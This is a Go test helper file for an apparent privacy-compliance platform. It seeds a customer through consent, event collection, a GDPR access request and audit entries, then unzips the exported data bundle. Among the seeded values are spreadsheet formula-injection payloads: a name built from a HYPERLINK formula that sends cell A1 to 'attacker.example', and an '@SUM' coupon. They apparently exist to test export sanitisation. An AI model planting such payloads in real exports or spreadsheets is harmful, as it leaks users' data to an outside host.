package bundle_test

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"log/slog"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/garde-privacy/garde"
	"github.com/garde-privacy/garde/audit"
	"github.com/garde-privacy/garde/collect"
	"github.com/garde-privacy/garde/consent"
	"github.com/garde-privacy/garde/gardetest"
	"github.com/garde-privacy/garde/inventory"
	"github.com/garde-privacy/garde/profile"
	"github.com/garde-privacy/garde/rights"
	"github.com/garde-privacy/garde/rights/bundle"
	"github.com/garde-privacy/garde/store"
	"github.com/garde-privacy/garde/vault"
)

var t0 = time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)

// env is Garde's real collection path on SQLite in a temp dir: the vault,
// the pipeline and group-commit writer (auditing each commit), the consent
// ledger, the request store, and a builder and downloads over them.
type env struct {
	tb        testing.TB
	inv       *inventory.Inventory
	data      *store.DB
	vault     *vault.Vault
	pipeline  *collect.Pipeline
	writer    *collect.Writer
	ledger    *consent.Ledger
	audit     *store.Audit
	log       *audit.Log
	clock     *gardetest.Clock
	builder   *bundle.Builder
	downloads *bundle.Downloads
}

func newEnv(tb testing.TB) *env {
	tb.Helper()
	ctx, dir := context.Background(), tb.TempDir()
	inv := inventory.MustExample()
	mk, err := vault.CreateMasterKeyFile(filepath.Join(dir, "master.key"))
	if err != nil {
		tb.Fatal(err)
	}
	keys, err := store.OpenSQLite(ctx, filepath.Join(dir, "keys.db"), "keys")
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { keys.Close() })
	v, err := vault.Open(ctx, mk, store.NewKeys(keys), vault.Options{})
	if err != nil {
		tb.Fatal(err)
	}
	data, err := store.OpenSQLite(ctx, filepath.Join(dir, "garde.db"), "data")
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { data.Close() })
	signer, err := v.Signer(ctx, vault.UseAudit)
	if err != nil {
		tb.Fatal(err)
	}
	c := gardetest.NewClock(t0)
	e := &env{tb: tb, inv: inv, data: data, vault: v, clock: c, audit: store.NewAudit(data),
		log: &audit.Log{Signer: signer, Clock: c}}
	idx := consent.NewIndex(inv)
	e.writer = collect.NewWriter(store.NewCollect(data), v, idx,
		func(s inventory.PurposeSet) string { return strings.Join(inv.PurposeKeys(s), ",") },
		collect.WriterOptions{}, slog.New(slog.NewTextHandler(io.Discard, nil)), collect.NewMetrics(prometheus.NewRegistry()))
	e.writer.SetAudit(func(ctx context.Context, tx collect.Tx, sources []string, subjects []garde.SubjectID) error {
		if len(subjects) == 0 {
			return nil
		}
		return e.log.Append(ctx, e.audit.CollectTx(tx), audit.Entry{Actor: "source:" + strings.Join(sources, ","),
			Action: audit.ActionEventsWrite, Subjects: subjects, Outcome: audit.OutcomeOK})
	})
	tb.Cleanup(e.writer.Close)
	e.pipeline = collect.NewPipeline(inv, v)
	cs := store.NewConsent(data)
	e.ledger = &consent.Ledger{Inventory: inv, Index: idx, Writer: e.writer, Store: cs, Subjects: cs, TxOf: store.ConsentTx,
		Clock: c, Salt: v.DeriveKey("consent ip and user-agent salt")}
	e.builder = &bundle.Builder{Source: store.NewBundle(data), Profiles: &profile.Reader{Store: store.NewProfiles(data), Opener: v},
		Inventory: inv, Clock: c}
	e.downloads = &bundle.Downloads{Store: store.NewDownloads(data), Sealer: v, Clock: c}
	return e
}

// send collects messages from the web source, as the tracking API would.
func (e *env) send(msgs ...collect.Message) {
	e.tb.Helper()
	src := e.inv.SourceByWriteKey("demo-web-key")
	var tally collect.Tally
	var recs []collect.Record
	for i := range msgs {
		if rec, ok := e.pipeline.Prepare(src, &msgs[i], e.clock.Now(), &tally); ok {
			recs = append(recs, rec)
		}
	}
	if err := e.writer.Submit(context.Background(), recs, &tally); err != nil {
		e.tb.Fatal(err)
	}
}

// raw turns values into a message's raw fields.
func raw(kv map[string]any) collect.Object { return collect.ObjectOf(kv) }

// subject returns the subject of a userId.
func (e *env) subject(userID string) garde.SubjectID {
	e.tb.Helper()
	s, err := store.NewProfiles(e.data).FindSubjectByIdentity(context.Background(), collect.IdentityUser,
		e.vault.BlindIndex(collect.IdentityUser, userID))
	if err != nil {
		e.tb.Fatal(err)
	}
	return s
}

// decide records consent decisions for an anonymous id.
func (e *env) decide(anon string, d map[string]consent.Decision) {
	e.tb.Helper()
	_, err := e.ledger.Decide(context.Background(), &consent.Request{
		IDs:    []collect.Identity{{Kind: collect.IdentityAnon, Hash: e.vault.BlindIndex(collect.IdentityAnon, anon)}},
		Create: true, Decisions: d, Source: consent.SourceBanner, Country: "FR",
		Notice: consent.Notice{Version: 1, Hash: "ab", Language: "fr"}, Age: consent.Age{Status: "adult"},
		Collector: "source:web", IP: "203.0.113.7", UserAgent: "Firefox"})
	if err != nil {
		e.tb.Fatal(err)
	}
}

// person is what seed wrote.
type person struct {
	subject garde.SubjectID
	request string
}

// Values of the seeded person, looked for in the copy.
const (
	seedEmail   = "ada.lovelace@example.com"
	seedName    = `=HYPERLINK("http://attacker.example/?leak="&A1,"click")`
	seedOrder   = "ORD-77"
	seedIP      = "198.51.100.23"
	seedCoupon  = "@SUM(1+1)"
	seedUserID  = "cust-ada"
	seedAnonID  = "anon-ada"
	seedRequest = "r_access_1"
)

// seed collects a person through the real path: consent on the banner as
// an anonymous visitor, a page view, sign-in (identify), n orders (which
// merge the visit into the customer); then a request of theirs, an operator's read and a
// bulk export in the audit log, and a withdrawal told to partners.
func (e *env) seed(n int) person {
	e.tb.Helper()
	ctx := context.Background()
	e.decide(seedAnonID, map[string]consent.Decision{"analytics": consent.Given, "email_marketing": consent.Given})
	e.send(collect.Message{Type: collect.TypePage, AnonymousID: seedAnonID, Name: "Home",
		Properties: raw(map[string]any{"path": "/", "title": "Maison Lumière"}),
		Context:    raw(map[string]any{"ip": seedIP, "locale": "fr-FR"})})
	// signing in: the customer's own subject, into which the visit is
	// merged as soon as a message names both
	e.send(collect.Message{Type: collect.TypeIdentify, UserID: seedUserID,
		Traits: raw(map[string]any{"email": seedEmail, "name": seedName, "loyalty_tier": "gold"})})
	const batch = 500
	for i := 0; i < n; i += batch {
		var msgs []collect.Message
		for j := i; j < min(n, i+batch); j++ {
			msgs = append(msgs, collect.Message{Type: collect.TypeTrack, Event: "Order Completed", UserID: seedUserID, AnonymousID: seedAnonID,
				Timestamp: t0.Add(time.Duration(j) * time.Minute).Format(time.RFC3339),
				Properties: raw(map[string]any{"order_id": seedOrder, "total": 89.9, "currency": "EUR", "coupon": seedCoupon,
					"email": seedEmail, "products": []any{map[string]any{"id": "LMP-204", "qty": 1}}}),
				Context: raw(map[string]any{"ip": seedIP, "userAgent": "Mozilla/5.0", "locale": "fr-FR"})})
		}
		e.send(msgs...)
	}
	s := e.subject(seedUserID)
	e.decide(seedAnonID, map[string]consent.Decision{"email_marketing": consent.Withdrawn})
	r := rights.Request{ID: seedRequest, Type: rights.Access, Jurisdiction: rights.GDPR, Subject: s,
		State: rights.StateVerified, Received: t0, Verified: t0.Add(time.Hour), Clock: rights.Deadlines(rights.GDPR, rights.Access, t0, nil),
		History: []rights.Transition{{To: rights.StateReceived, At: t0}, {From: rights.StateReceived, To: rights.StateVerified, At: t0.Add(time.Hour)}}}
	if err := store.NewRequests(e.data).CreateRequest(ctx, &r); err != nil {
		e.tb.Fatal(err)
	}
	others := make([]garde.SubjectID, audit.MaxListed+1)
	for i := range others {
		others[i] = garde.NewSubjectID()
	}
	err := e.audit.Append(ctx, e.log,
		audit.Entry{Actor: "op_support1", Role: "support", Action: audit.ActionSubjectRead, Purpose: "service",
			Subjects: []garde.SubjectID{s, garde.NewSubjectID()}, Categories: []string{"user.contact.email"},
			Source: "192.0.2.44:5123", Outcome: audit.OutcomeOK, Detail: map[string]string{"note": "ticket 12"}},
		audit.Entry{Actor: "op_marketer1", Role: "marketer", Action: audit.ActionSubjectRead, Purpose: "email_marketing",
			Subjects: []garde.SubjectID{s}, Outcome: audit.OutcomeRefused},
		audit.Entry{Actor: "apikey:k_bulk", Role: "marketer", Action: audit.ActionExport, Purpose: "email_marketing",
			Subjects: append(others, s), Outcome: audit.OutcomeOK})
	if err != nil {
		e.tb.Fatal(err)
	}
	return person{subject: s, request: seedRequest}
}

// unzip reads a copy into its files.
func unzip(tb testing.TB, b []byte) map[string][]byte {
	tb.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		tb.Fatal(err)
	}
	files := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			tb.Fatal(err)
		}
		body, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			tb.Fatal(err)
		}
		files[f.Name] = body
	}
	return files
}
